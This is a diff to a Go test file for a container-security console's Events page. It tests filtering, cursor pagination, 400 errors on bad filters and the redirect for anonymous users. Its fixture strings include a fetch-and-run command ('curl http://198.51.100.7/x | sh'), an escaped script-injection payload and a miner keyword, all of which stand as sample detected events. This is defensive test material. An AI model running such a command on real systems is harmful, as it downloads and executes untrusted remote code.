@@ -130,6 +130,15 @@ func TestPages(t *testing.T) {
 			"registry.local/payments/api:1.4.2", "libcurl4", "7.88.1-10&#43;deb12u3", "7.88.1-10&#43;deb12u4",
 			"No cluster reports workloads yet", "https://nvd.nist.gov/vuln/detail/CVE-2023-38545"}, nil},
 		{"/vulnerabilities/CVE-2023-38545", []string{"DEBIAN-CVE-2023-38545"}, nil}, // by alias
+		{"/events", []string{"Shell started in a container", "T1059.004", "payments", "api-7d9f", "Executable not in the image",
+			"terminate", "Image tag latest", "bastion", "Eicar-Test-Signature", "curl http://198.51.100.7/x | sh", "prod agents",
+			"&lt;script&gt;alert(&#39;event&#39;)&lt;/script&gt;"}, []string{hostileEventMessage}},
+		{"/events?source=runtime", []string{"Shell started in a container", "Executable not in the image"}, []string{"Image tag latest", "bastion"}},
+		{"/events?severity=critical", []string{"Executable not in the image", "bastion"}, []string{"Shell started in a container", "Image tag latest"}},
+		{"/events?namespace=web&action=block", []string{"Image tag latest"}, []string{"Executable not in the image"}},
+		{"/events?technique=T1036", []string{"Executable not in the image"}, []string{"Shell started"}},
+		{"/events?q=XMRIG", []string{"Executable not in the image"}, []string{"Shell started"}},
+		{"/events?cluster=nope", []string{"No event matches these filters"}, nil},
 		{"/registries", []string{"No registries yet", "An administrator adds registries"}, []string{"/registries/new"}},
 		{"/scanner", []string{"mamori image --input image.tar --server " + e.srv.URL + " --token", "MAMORI_TOKEN", "Ask an administrator"}, []string{"Create CI token"}},
 		{"/settings/tokens", []string{"console-admin", "console-operator", "console-viewer", "mmr_"}, []string{"Create a token", "Revoke"}},
@@ -515,5 +524,35 @@ func TestScannerServerURL(t *testing.T) {
 	}
 	if _, err := New(e.st, e.authn, WithServerURL("ftp://x")); err == nil {
 		t.Error("WithServerURL accepted a non-HTTP URL")
+	}
+}
+
+// TestEventsPage: the Events page pages with the API's cursor and answers
+// a bad filter with its error and 400, the same filters by the same names
+// as GET /api/v1/events.
+func TestEventsPage(t *testing.T) {
+	e := newEnv(t)
+	c := e.login(auth.RoleViewer)
+	code, body, _ := c.get("/events?limit=2")
+	if code != http.StatusOK || !strings.Contains(body, "Shell started in a container") || strings.Contains(body, "Image tag latest") {
+		t.Fatalf("first page: %d", code)
+	}
+	m := regexp.MustCompile(`href="(/events\?[^"]*cursor=[^"]*)"[^>]*rel="next"`).FindStringSubmatch(body)
+	if m == nil {
+		t.Fatalf("no link to older events: %s", body)
+	}
+	next := strings.ReplaceAll(m[1], "&amp;", "&")
+	code, body, _ = c.get(next)
+	if code != http.StatusOK || !strings.Contains(body, "Image tag latest") || strings.Contains(body, "Shell started in a container") || !strings.Contains(body, "← Newest") {
+		t.Fatalf("older page %s: %d", next, code)
+	}
+	for _, q := range []string{"severity=severe", "source=toaster", "since=last-week", "cursor=xyz", "action=explode"} {
+		code, body, _ := c.get("/events?" + q)
+		if code != http.StatusBadRequest || !strings.Contains(body, "flash-error") {
+			t.Errorf("/events?%s: %d, want 400 with the error", q, code)
+		}
+	}
+	if code, _, _ := e.anon().get("/events"); code != http.StatusSeeOther {
+		t.Errorf("anonymous: %d, want a redirect to the login", code)
 	}
 }
